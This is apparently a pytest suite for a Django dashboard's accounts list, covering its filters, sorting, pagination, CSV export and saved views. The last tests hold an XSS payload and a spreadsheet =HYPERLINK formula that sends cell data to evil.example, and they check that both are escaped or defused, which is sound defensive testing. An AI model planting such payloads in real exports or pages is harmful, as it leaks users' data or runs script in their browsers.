"""The accounts list: every filter, sorting by every column both ways, pagination, refused
filters (400 naming the field), a bounded query count, the CSV export and saved views."""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from accounts.choices import AccountStatus, TouchModel
from dashboard.models import SavedView
from journeys.choices import Stage
from journeys.stages import move_account
from tests.dashboard.helpers import count_queries, set_health, text, today
from tests.factories import AccountFactory

pytestmark = pytest.mark.django_db


def names(response) -> list[str]:
    return [a.name for a in response.context["page"].object_list]


@pytest.fixture
def accounts(csm, make_user):
    """Five active accounts that differ in every column, and one churned."""
    maya = make_user("maya", first_name="Maya")
    alpha = AccountFactory(
        name="Alpha Analytics", domain="alpha.io", plan="Enterprise", arr=Decimal("120000"),
        touch_model=TouchModel.HIGH, owner=csm, renewal_date=today() + timedelta(days=20),
    )  # fmt: skip
    bravo = AccountFactory(
        name="Bravo Bikes", domain="bravo-bikes.com", plan="Growth", arr=Decimal("24000"),
        touch_model=TouchModel.LOW, owner=maya, renewal_date=today() + timedelta(days=60),
    )  # fmt: skip
    charlie = AccountFactory(
        name="Charlie Cloud", domain="charlie.dev", plan="Starter", arr=Decimal("6000"),
        touch_model=TouchModel.TECH, owner=None, renewal_date=today() + timedelta(days=200),
    )  # fmt: skip
    delta = AccountFactory(
        name="Delta Dental", domain="delta.example", plan="growth", arr=Decimal("48000"),
        touch_model=TouchModel.LOW, owner=csm, renewal_date=None,
    )  # fmt: skip
    echo = AccountFactory(
        name="Echo Energy", domain="echo.example", plan="Enterprise", arr=Decimal("90000"),
        touch_model=TouchModel.HIGH, owner=maya, renewal_date=today() + timedelta(days=100),
    )  # fmt: skip
    AccountFactory(
        name="Foxtrot Gone", domain="foxtrot.example", status=AccountStatus.CHURNED,
        churned_at=timezone.now(), owner=csm,
    )  # fmt: skip
    set_health(alpha, "green", 88)
    set_health(bravo, "yellow", 52)
    set_health(charlie, "red", 21)
    set_health(echo, "green", 75)  # delta: not scored yet
    move_account(alpha, Stage.ADOPTION)
    move_account(bravo, Stage.ONBOARDING)
    move_account(charlie, Stage.RENEWAL)
    move_account(echo, Stage.ADOPTION)  # delta: no stage
    return {a.name.split()[0].lower(): a for a in (alpha, bravo, charlie, delta, echo)}


@pytest.fixture
def logged_in(client, csm):
    client.force_login(csm)
    return client


def get(client, **params):
    return client.get(reverse("accounts"), params)


def test_the_list_shows_active_accounts_sorted_by_name(logged_in, accounts):
    response = get(logged_in)
    assert response.status_code == 200
    assert names(response) == [
        "Alpha Analytics", "Bravo Bikes", "Charlie Cloud", "Delta Dental", "Echo Energy",
    ]  # fmt: skip
    page = text(response)
    assert "Foxtrot Gone" not in page
    assert "✓ Green 88" in page and "! Yellow 52" in page and "✕ Red 21" in page
    assert "? Not scored" in page


@pytest.mark.parametrize(
    "params, expected",
    [
        ({"color": "green"}, ["Alpha Analytics", "Echo Energy"]),
        ({"color": "yellow"}, ["Bravo Bikes"]),
        ({"color": "red"}, ["Charlie Cloud"]),
        ({"stage": "adoption"}, ["Alpha Analytics", "Echo Energy"]),
        ({"stage": "renewal"}, ["Charlie Cloud"]),
        ({"owner": "maya"}, ["Bravo Bikes", "Echo Energy"]),
        ({"owner": "csm"}, ["Alpha Analytics", "Delta Dental"]),
        ({"owner": "nobody-by-that-name"}, []),
        ({"plan": "GROWTH"}, ["Bravo Bikes", "Delta Dental"]),  # case-insensitive
        ({"plan": "enterprise"}, ["Alpha Analytics", "Echo Energy"]),
        ({"touch_model": "high"}, ["Alpha Analytics", "Echo Energy"]),
        ({"touch_model": "tech"}, ["Charlie Cloud"]),
        ({"renewal_within_days": "30"}, ["Alpha Analytics"]),
        ({"renewal_within_days": "90"}, ["Alpha Analytics", "Bravo Bikes"]),
        ({"renewal_within_days": "180"}, ["Alpha Analytics", "Bravo Bikes", "Echo Energy"]),
        ({"arr_min": "48000"}, ["Alpha Analytics", "Delta Dental", "Echo Energy"]),
        ({"arr_max": "24000"}, ["Bravo Bikes", "Charlie Cloud"]),
        ({"arr_min": "20000", "arr_max": "90000"}, ["Bravo Bikes", "Delta Dental", "Echo Energy"]),
        ({"q": "cloud"}, ["Charlie Cloud"]),  # by name, any case
        ({"q": "bravo-bikes"}, ["Bravo Bikes"]),  # by domain
        ({"q": "  .example "}, ["Delta Dental", "Echo Energy"]),  # domain, trimmed
        ({"book": "mine"}, ["Alpha Analytics", "Delta Dental"]),
        (
            {"book": "team"},
            ["Alpha Analytics", "Bravo Bikes", "Charlie Cloud", "Delta Dental", "Echo Energy"],
        ),  # fmt: skip
        ({"status": "churned"}, ["Foxtrot Gone"]),
        ({"color": "green", "touch_model": "high", "owner": "maya"}, ["Echo Energy"]),
        ({"book": "mine", "plan": "growth"}, ["Delta Dental"]),
    ],
)
def test_each_filter_narrows_the_list(logged_in, accounts, params, expected):
    response = get(logged_in, **params)
    assert response.status_code == 200
    assert names(response) == expected


def test_the_filters_keep_their_values_in_the_form(logged_in, accounts):
    html = get(logged_in, plan="Growth", color="yellow", book="mine").content.decode()
    assert 'name="plan" value="Growth"' in html
    assert '<option value="yellow" selected>' in html
    assert '<option value="mine" selected>' in html


ORDERS = {
    # column: ascending order; nulls (Delta: no score, no stage, no renewal) always last
    "name": ["Alpha", "Bravo", "Charlie", "Delta", "Echo"],
    "score": ["Charlie", "Bravo", "Echo", "Alpha", "Delta"],
    "arr": ["Charlie", "Bravo", "Delta", "Echo", "Alpha"],
    "renewal": ["Alpha", "Bravo", "Echo", "Charlie", "Delta"],
}


@pytest.mark.parametrize("column", ORDERS)
def test_sort_by_a_column_both_ways_with_nulls_last(logged_in, accounts, column):
    ascending = [n.split()[0] for n in names(get(logged_in, sort=column))]
    descending = [n.split()[0] for n in names(get(logged_in, sort=f"-{column}"))]
    assert ascending == ORDERS[column]
    nulls = [n for n in ORDERS[column] if n == "Delta" and column != "name" and column != "arr"]
    expected_desc = [n for n in reversed(ORDERS[column]) if n not in nulls] + nulls
    assert descending == expected_desc


@pytest.mark.parametrize(
    "column, key",
    [
        ("plan", lambda a: a.plan.lower()),
        ("touch", lambda a: a.touch_model),
        ("owner", lambda a: a.owner.username if a.owner else None),
        ("stage", lambda a: a.journey.stage if hasattr(a, "journey") else None),
    ],
)
def test_sort_by_the_text_columns_both_ways_with_nulls_last(logged_in, accounts, column, key):
    for direction in ("", "-"):
        rows = list(get(logged_in, sort=f"{direction}{column}").context["page"].object_list)
        values = [key(a) for a in rows]
        present = [v for v in values if v is not None]
        assert values == present + [None] * (len(values) - len(present)), "nulls last"
        if column == "plan":
            # The database's collation decides where "growth" and "Growth" go; "Enterprise"
            # comes first ascending (last descending) and "Starter" after it in any collation.
            ends = (present[0], present[-1]) if not direction else (present[-1], present[0])
            assert ends[0] == "enterprise"
            assert (
                present.index("starter") > present.index("enterprise")
                if not direction
                else (present.index("starter") < present.index("enterprise"))
            )
        else:
            assert present == sorted(present, reverse=bool(direction))
        assert len(rows) == 5


def test_ties_are_broken_by_id_so_pages_are_stable(logged_in, accounts):
    # two Enterprise and two growth accounts: the same order on every request
    first = names(get(logged_in, sort="touch"))
    assert first == names(get(logged_in, sort="touch"))
    assert first[:2] == ["Alpha Analytics", "Echo Energy"]  # high, by id


def test_column_headers_link_to_the_reverse_sort(logged_in, accounts):
    html = get(logged_in, sort="arr", plan="Enterprise").content.decode()
    assert '<a href="?sort=-arr&amp;plan=Enterprise">ARR ▲</a>' in html
    assert '<a href="?sort=score&amp;plan=Enterprise">Health</a>' in html
    html = get(logged_in, sort="-arr").content.decode()
    assert '<a href="?sort=arr">ARR ▼</a>' in html


def test_pagination_page_two_of_sixty(logged_in, csm):
    for i in range(60):
        AccountFactory(name=f"Paged {i:02d}")
    first = get(logged_in)
    assert len(first.context["page"].object_list) == 50
    second = get(logged_in, page="2")
    assert second.status_code == 200
    assert names(second) == [f"Paged {i:02d}" for i in range(50, 60)]
    page = text(second)
    assert "Page 2 of 2" in page and "← Previous" in page and "Next →" not in page
    assert "Accounts 60" in page


def test_pagination_keeps_the_filters(logged_in, csm):
    for i in range(55):
        AccountFactory(name=f"Kept {i:02d}", plan="Enterprise")
    AccountFactory(name="Other plan")
    html = get(logged_in, plan="Enterprise").content.decode()
    assert 'href="?plan=Enterprise&page=2"' in html
    assert names(get(logged_in, plan="Enterprise", page="2"))[-1] == "Kept 54"


def test_an_out_of_range_page_shows_the_last_page(logged_in, accounts):
    response = get(logged_in, page="99")
    assert response.status_code == 200
    assert len(names(response)) == 5


@pytest.mark.parametrize(
    "params, field",
    [
        ({"arr_min": "abc"}, "arr_min"),
        ({"arr_max": "1e20"}, "arr_max"),
        ({"color": "purple"}, "color"),
        ({"renewal_within_days": "-5"}, "renewal_within_days"),
        ({"sort": "bogus"}, "sort"),
        ({"touch_model": "no-touch"}, "touch_model"),
        ({"status": "deleted"}, "status"),
        ({"book": "everyone"}, "book"),
    ],
)
def test_bad_filter_input_is_a_400_naming_the_field_with_no_rows(
    logged_in, accounts, params, field
):
    response = get(logged_in, **params)
    assert response.status_code == 400
    assert field in response.context["filter"].errors
    html = response.content.decode()
    assert f"<p><strong>{field}</strong>: " in html
    page = text(response)
    assert "Fix the filters above to see accounts." in page
    assert names(response) == []
    for account in accounts.values():
        assert account.name not in page
    if field.startswith("arr_"):  # what the user typed stays in the text input
        assert f'name="{field}" value="{params[field]}"' in response.content.decode()


def _many(count, owner):
    start = AccountFactory._meta.model.objects.count()
    for i in range(start, start + count):
        account = AccountFactory(name=f"Bulk {i:03d}", owner=owner if i % 2 else None)
        set_health(account, ("green", "yellow", "red")[i % 3])
        move_account(account, (Stage.ONBOARDING, Stage.ADOPTION)[i % 2])


@pytest.mark.parametrize(
    "params",
    [
        {},
        {"sort": "-score"},
        {"book": "mine", "color": "green", "sort": "stage"},
        {"q": "bulk", "plan": "growth", "renewal_within_days": "3650", "sort": "-owner"},
    ],
)
def test_under_10_queries_per_page_whatever_the_number_of_accounts(client, csm, params):
    SavedView.objects.create(owner=csm, name="Mine", query="book=mine")
    SavedView.objects.create(owner=csm, name="Shared", query="color=red", shared=True)
    client.force_login(csm)
    url = reverse("accounts")
    _many(5, csm)
    small, response = count_queries(client, url, data=params)
    assert response.status_code == 200
    _many(45, csm)
    large, response = count_queries(client, url, data=params)
    assert response.status_code == 200
    assert response.context["page"].object_list  # the large book does render rows
    assert large == small
    assert large < 10


def test_page_two_is_also_under_10_queries(client, csm):
    client.force_login(csm)
    _many(60, csm)
    queries, response = count_queries(client, reverse("accounts"), data={"page": "2"})
    assert len(response.context["page"].object_list) == 10
    assert queries < 10


# --- CSV export -------------------------------------------------------------------------


def export(client, **params):
    response = client.get(reverse("accounts-export"), params)
    body = b"".join(response.streaming_content).decode() if response.streaming else ""
    return response, list(csv.reader(io.StringIO(body)))


def test_the_export_is_the_filtered_view_with_a_header(logged_in, accounts):
    response, rows = export(logged_in, color="green", sort="-arr")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv"
    assert "attachment" in response["Content-Disposition"]
    assert rows[0] == [
        "external_id", "name", "domain", "plan", "arr", "currency", "touch_model", "owner",
        "stage", "health_score", "health_color", "renewal_date", "status",
    ]  # fmt: skip
    assert [r[1] for r in rows[1:]] == ["Alpha Analytics", "Echo Energy"]
    alpha = dict(zip(rows[0], rows[1], strict=True))
    assert alpha["domain"] == "alpha.io"
    assert Decimal(alpha["arr"]) == Decimal("120000")
    assert alpha["owner"] == "csm"
    assert alpha["stage"] == "adoption"
    assert float(alpha["health_score"]) == 88
    assert alpha["health_color"] == "green"
    assert alpha["renewal_date"] == str(today() + timedelta(days=20))
    assert alpha["status"] == "active"


def test_the_export_has_every_page_not_just_the_first(logged_in, csm):
    for i in range(120):
        AccountFactory(name=f"Row {i:03d}", plan="Enterprise" if i % 2 else "Growth")
    _, rows = export(logged_in, plan="enterprise")
    assert len(rows) == 1 + 60
    assert rows[1][1] == "Row 001" and rows[-1][1] == "Row 119"
    _, everything = export(logged_in)
    assert len(everything) == 1 + 120


def test_the_export_follows_book_and_search(logged_in, accounts):
    _, rows = export(logged_in, book="mine")
    assert [r[1] for r in rows[1:]] == ["Alpha Analytics", "Delta Dental"]
    _, rows = export(logged_in, q="CHARLIE")
    assert [r[1] for r in rows[1:]] == ["Charlie Cloud"]


@pytest.mark.parametrize(
    "params, field",
    [
        ({"arr_min": "abc"}, "arr_min"),
        ({"color": "purple"}, "color"),
        ({"renewal_within_days": "-5"}, "renewal_within_days"),
        ({"sort": "bogus"}, "sort"),
    ],
)
def test_the_export_refuses_bad_filters_naming_the_field(logged_in, accounts, params, field):
    response = logged_in.get(reverse("accounts-export"), params)
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/plain")
    body = response.content.decode()
    assert body.startswith(f"{field}: ")
    assert "Alpha" not in body


def test_the_export_is_for_logged_in_users_only(client, accounts):
    response = client.get(reverse("accounts-export"))
    assert response.status_code == 302
    assert reverse("login") in response["Location"]


def test_the_export_is_escaped_for_csv(logged_in):
    AccountFactory(name='Quote "Co", Ltd\nNew line', plan="Growth")
    _, rows = export(logged_in)
    assert rows[1][1] == 'Quote "Co", Ltd\nNew line'


# --- saved views ------------------------------------------------------------------------


def save_view(client, name, query, shared=False):
    data = {"name": name, "query": query}
    if shared:
        data["shared"] = "on"
    return client.post(reverse("saved-view-create"), data)


def test_a_user_saves_a_view_and_sees_it_listed(logged_in, csm, accounts):
    response = save_view(logged_in, "Green enterprise", "color=green&plan=Enterprise")
    assert response.status_code == 302
    assert response["Location"] == reverse("accounts") + "?color=green&plan=Enterprise"
    view = SavedView.objects.get()
    assert (view.owner, view.name, view.query, view.shared) == (
        csm, "Green enterprise", "color=green&plan=Enterprise", False,
    )  # fmt: skip
    page = logged_in.get(response["Location"])
    html = page.content.decode()
    assert '<a href="?color=green&amp;plan=Enterprise">Green enterprise</a>' in html
    assert "Saved the view “Green enterprise”." in text(page)
    assert names(page) == ["Alpha Analytics", "Echo Energy"]


def test_a_view_with_the_same_name_is_updated_not_duplicated(logged_in, csm):
    save_view(logged_in, "Renewing", "renewal_within_days=30")
    save_view(logged_in, "Renewing", "renewal_within_days=90", shared=True)
    view = SavedView.objects.get()
    assert (view.query, view.shared) == ("renewal_within_days=90", True)


def test_two_users_may_use_the_same_view_name(client, csm, make_user):
    other = make_user("other-csm")
    client.force_login(csm)
    save_view(client, "Mine", "book=mine")
    client.force_login(other)
    save_view(client, "Mine", "book=mine")
    assert SavedView.objects.filter(name="Mine").count() == 2


def test_a_view_without_a_name_is_refused_with_a_message(logged_in):
    response = save_view(logged_in, "", "color=red")
    assert SavedView.objects.count() == 0
    page = text(logged_in.get(response["Location"]))
    assert "This field is required." in page


def test_shared_views_are_listed_for_others_private_ones_are_not(client, csm, make_user):
    other = make_user("other-csm")
    SavedView.objects.create(owner=csm, name="Casey private", query="book=mine")
    SavedView.objects.create(owner=csm, name="Casey shared", query="color=red", shared=True)
    client.force_login(other)
    response = client.get(reverse("accounts"))
    listed = [v.name for v in response.context["saved_views"]]
    assert listed == ["Casey shared"]
    html = response.content.decode()
    assert "Casey shared" in html and "(team)" in html and "Casey private" not in html
    assert "Delete Casey shared" not in html  # no delete button on another's view


def test_a_csm_cannot_delete_anothers_view_but_the_owner_can(client, csm, make_user):
    other = make_user("other-csm")
    view = SavedView.objects.create(owner=csm, name="Casey shared", query="x=1", shared=True)
    client.force_login(other)
    response = client.post(reverse("saved-view-delete", args=[view.pk]))
    assert response.status_code == 403
    assert SavedView.objects.filter(pk=view.pk).exists()
    client.force_login(csm)
    html = client.get(reverse("accounts")).content.decode()
    assert 'aria-label="Delete Casey shared"' in html
    response = client.post(reverse("saved-view-delete", args=[view.pk]))
    assert response.status_code == 302
    assert not SavedView.objects.filter(pk=view.pk).exists()


def test_an_admin_deletes_anyones_view(client, csm, cs_admin):
    view = SavedView.objects.create(owner=csm, name="Casey", query="x=1", shared=True)
    client.force_login(cs_admin)
    assert client.post(reverse("saved-view-delete", args=[view.pk])).status_code == 302
    assert not SavedView.objects.exists()


def test_deleting_a_view_needs_a_post(logged_in, csm):
    view = SavedView.objects.create(owner=csm, name="Casey", query="x=1")
    assert logged_in.get(reverse("saved-view-delete", args=[view.pk])).status_code == 405
    assert SavedView.objects.exists()


def test_anonymous_visitors_cannot_list_or_save(client):
    assert client.get(reverse("accounts")).status_code == 302
    assert save_view(client, "x", "y").status_code == 302
    assert not SavedView.objects.exists()


def test_hostile_names_are_escaped(logged_in, csm):
    AccountFactory(name="<script>alert(1)</script>", domain="<b>x</b>.example")
    SavedView.objects.create(owner=csm, name="<img src=x onerror=alert(2)>", query="a=<b>")
    html = get(logged_in).content.decode()
    assert "<script>alert(1)</script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<img src=x" not in html


def test_the_export_defuses_spreadsheet_formulas(logged_in):
    AccountFactory(name='=HYPERLINK("http://evil.example/?x="&A1,"Click")', plan="Growth")
    _, rows = export(logged_in)
    assert not rows[1][1].startswith(("=", "+", "-", "@"))
